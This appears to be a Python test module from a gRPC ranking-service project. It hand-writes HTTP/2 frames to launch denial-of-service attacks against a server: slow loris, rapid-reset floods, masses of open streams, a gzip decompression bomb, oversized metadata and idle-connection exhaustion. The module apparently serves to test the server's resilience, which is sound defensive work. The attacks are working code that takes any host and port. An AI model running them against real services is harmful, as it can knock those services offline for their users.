"""What somebody does to a server who means it no good, in a process and from an address of its own:
`python -m tests.abuse.attacks NAME HOST:PORT COUNT`.

It says "ready" when it is under way, goes on until its standard input ends, and then says as JSON
what it did and what it was told. Its frames of HTTP/2 are made by hand: a whole client would keep
the rules.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import os
import resource
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS: Final = SettingsFrame(0).serialize()
FROM: Final = ("127.0.0.2", 0)
"""The attacker is another host to the server than whoever else calls it."""
RANKING: Final = "/standings.v1.RankingService/"
_FRAME_BYTES: Final = 16_384
_HEAD_BYTES: Final = 9


def headers(method: str, **more: str) -> list[tuple[str, str]]:
    """What a call of a method begins with."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", RANKING + method),
        (":authority", "abused"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *((name.replace("_", "-"), value) for name, value in more.items()),
    ]


@dataclass
class Connection:
    """A connection whose frames are written by hand; what comes back is counted."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    seen: Counter[str]
    encoder: Encoder = field(default_factory=Encoder)
    closed: bool = False
    _next: int = -1
    _listening: asyncio.Task[None] | None = None

    @classmethod
    async def open(cls, address: str, seen: Counter[str], hello: bytes = PREFACE + SETTINGS) -> Any:
        """A new one. Raises OSError."""
        host, _, port = address.rpartition(":")
        reader, writer = await asyncio.open_connection(host, int(port), local_addr=FROM)
        made = cls(reader, writer, seen)
        writer.write(hello)
        seen["connections"] += 1
        return made

    def stream(self) -> int:
        """The number of a new stream."""
        self._next += 2
        return self._next

    def begin(self, method: str, **more: str) -> int:
        """Sends what a call begins with, in as many frames as it needs."""
        number = self.stream()
        block = self.encoder.encode(headers(method, **more), huffman=False)
        parts = [block[at : at + _FRAME_BYTES] for at in range(0, len(block), _FRAME_BYTES)]
        frames: list[Frame] = [HeadersFrame(number, parts[0])]
        frames += [ContinuationFrame(number, part) for part in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        self.writer.write(b"".join(frame.serialize() for frame in frames))
        return number

    def send(self, number: int, data: bytes, *, end: bool = True) -> None:
        """Sends the body of a call."""
        for at in range(0, len(data), _FRAME_BYTES):
            frame = DataFrame(number, data[at : at + _FRAME_BYTES])
            if end and at + _FRAME_BYTES >= len(data):
                frame.flags.add("END_STREAM")
            self.writer.write(frame.serialize())

    def start(self) -> None:
        """Listens from now on."""
        self._listening = asyncio.create_task(self._listen())

    def stop(self) -> None:
        """Goes away."""
        if self._listening is not None:
            self._listening.cancel()
        self.writer.close()

    async def _listen(self) -> None:
        """Counts what comes until the end; answers pings and settings, as who is polite does."""
        decoder = Decoder()
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                frame, length = Frame.parse_frame_header(
                    memoryview(await self.reader.readexactly(_HEAD_BYTES))
                )
                frame.parse_body(memoryview(await self.reader.readexactly(length)))
                self._heard(frame, decoder)
        self.closed = True
        self.seen["closed by the server"] += 1

    def _heard(self, frame: Frame, decoder: Decoder) -> None:
        match frame:
            case SettingsFrame() if "ACK" not in frame.flags:
                self.writer.write(SettingsFrame(0, flags=["ACK"]).serialize())
            case PingFrame() if "ACK" not in frame.flags:
                pong = PingFrame(0, frame.opaque_data, flags=["ACK"])
                self.writer.write(pong.serialize())
            case RstStreamFrame():
                self.seen[f"stream reset, code {frame.error_code}"] += 1
            case GoAwayFrame():
                self.seen[f"goaway, code {frame.error_code}"] += 1
            case HeadersFrame():
                told = dict(decoder.decode(frame.data))
                for name in (":status", "grpc-status"):
                    if (value := told.get(name)) not in {None, "200"}:
                        self.seen[f"{name} {value}"] += 1
            case _:
                pass


Attack = Callable[[str, int, Counter[str], asyncio.Event], Awaitable[None]]
"""Takes address, count, what is seen, and an event to set when it is under way."""


async def _all(count: int, one: Callable[[int], Awaitable[None]], at_once: int = 50) -> None:
    """Runs one for each number, so many at once."""
    limit = asyncio.Semaphore(at_once)

    async def bounded(number: int) -> None:
        async with limit:
            await one(number)

    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(bounded(number))


async def slow_loris(address: str, count: int, seen: Counter[str], ready: asyncio.Event) -> None:
    """Connections that send a byte a second: half of them of the preface, half of a message."""
    connections: list[tuple[Connection, int]] = []

    async def one(number: int) -> None:
        if number % 2:
            connections.append((await Connection.open(address, seen, PREFACE[:1]), 0))
            return
        made = await Connection.open(address, seen)
        stream = made.begin("SubmitScore")
        made.send(stream, b"\0\0\0\x10\0", end=False)
        connections.append((made, stream))

    await _all(count, one)
    for made, _ in connections:
        made.start()
    ready.set()
    sent = 1
    while True:
        await asyncio.sleep(1)
        for made, stream in connections:
            if not made.closed:
                if stream:
                    made.send(stream, b"x", end=False)
                else:
                    made.writer.write(PREFACE[sent % len(PREFACE) :][:1])
                seen["bytes"] += 1
        sent += 1


async def rapid_reset(address: str, count: int, seen: Counter[str], ready: asyncio.Event) -> None:
    """`count` calls a second that are taken back in the same breath, by four connections."""
    ready.set()
    async with asyncio.TaskGroup() as tasks:
        for _ in range(4):
            tasks.create_task(_resets(address, count // 4, seen))


async def _resets(address: str, per_s: int, seen: Counter[str]) -> None:
    while True:
        made = await Connection.open(address, seen)
        made.start()
        made.writer.write(_reset(made, made.encoder.encode(headers("GetEntry"))))
        again = made.encoder.encode(headers("GetEntry"))
        start_s, sent = time.monotonic(), 1
        while not made.closed and sent < 2**29:
            due = int((time.monotonic() - start_s) * per_s) - sent
            batch = min(max(due, 0), 500)
            made.writer.write(b"".join(_reset(made, again) for _ in range(batch)))
            seen["resets"] += batch
            sent += max(due, 0)
            with contextlib.suppress(OSError):
                await made.writer.drain()
            await asyncio.sleep(0.005)
        made.stop()


def _reset(made: Connection, block: bytes) -> bytes:
    number = made.stream()
    begun = HeadersFrame(number, block, flags=["END_HEADERS"])
    return begun.serialize() + RstStreamFrame(number, 8).serialize()


async def many_streams(address: str, count: int, seen: Counter[str], ready: asyncio.Event) -> None:
    """Streams of submissions that stay open and send nothing: `count` on one connection, whatever
    that may have, and as many on others that keep to 250 each.
    """
    kept: list[Connection] = []
    for streams in (count, *[250] * (count // 250)):
        made = await Connection.open(address, seen)
        made.start()
        for _ in range(streams):
            made.begin("StreamSubmitScores")
            seen["streams"] += 1
        await made.writer.drain()
        kept.append(made)
        await asyncio.sleep(0.1)
    ready.set()
    await asyncio.Event().wait()


async def gzip_bomb(address: str, count: int, seen: Counter[str], ready: asyncio.Event) -> None:
    """`count` messages a second of 64 KiB that would be 64 MiB."""
    packed = gzip.compress(bytes(64 * 2**20))
    body = b"\1" + len(packed).to_bytes(4, "big") + packed
    ready.set()
    await _calls(
        address, count, seen, lambda made: made.begin("SubmitScore", grpc_encoding="gzip"), body
    )


async def huge_metadata(address: str, count: int, seen: Counter[str], ready: asyncio.Event) -> None:
    """`count` calls a second with 256 KiB of metadata."""
    value = os.urandom(96 * 1024).hex()
    ready.set()
    await _calls(
        address, count, seen, lambda made: made.begin("GetEntry", x_big=value), b"\0\0\0\0\0"
    )


async def _calls(
    address: str,
    per_s: int,
    seen: Counter[str],
    begin: Callable[[Connection], int],
    body: bytes,
) -> None:
    while True:
        made = await Connection.open(address, seen)
        made.start()
        # What a connection may send is counted in bytes; a new one begins anew.
        for _ in range(10):
            if made.closed:
                break
            made.send(begin(made), body)
            seen["calls"] += 1
            with contextlib.suppress(OSError):
                await made.writer.drain()
            await asyncio.sleep(1 / per_s)
        made.stop()


async def idle_connections(
    address: str, count: int, seen: Counter[str], ready: asyncio.Event
) -> None:
    """Connections that say hello and no more."""
    connections = []

    async def one(_number: int) -> None:
        try:
            connections.append(await Connection.open(address, seen))
        except OSError as error:
            seen[type(error).__name__] += 1

    await _all(count, one, at_once=100)
    ready.set()
    await asyncio.Event().wait()


ATTACKS: Final[Mapping[str, Attack]] = {
    "slow loris": slow_loris,
    "rapid reset": rapid_reset,
    "many streams": many_streams,
    "gzip bomb": gzip_bomb,
    "huge metadata": huge_metadata,
    "idle connections": idle_connections,
}


def _say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


async def _attack(name: str, address: str, count: int) -> None:
    seen: Counter[str] = Counter()
    ready = asyncio.Event()
    attack = asyncio.ensure_future(ATTACKS[name](address, count, seen, ready))
    await asyncio.wait(
        [attack, asyncio.ensure_future(ready.wait())], return_when=asyncio.FIRST_COMPLETED
    )
    if attack.done():
        attack.result()
    _say("ready")
    stopped = asyncio.ensure_future(asyncio.to_thread(sys.stdin.read))
    await asyncio.wait([attack, stopped], return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        seen[f"ended by {attack.exception()!r}"] += 1
    _say(json.dumps(seen))
    # What is still open is closed by the kernel, all at once.
    os._exit(0)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # Its work is that of other machines; what it costs here is not to be the server's loss.
    os.nice(10)
    asyncio.run(_attack(sys.argv[1], sys.argv[2], int(sys.argv[3])))
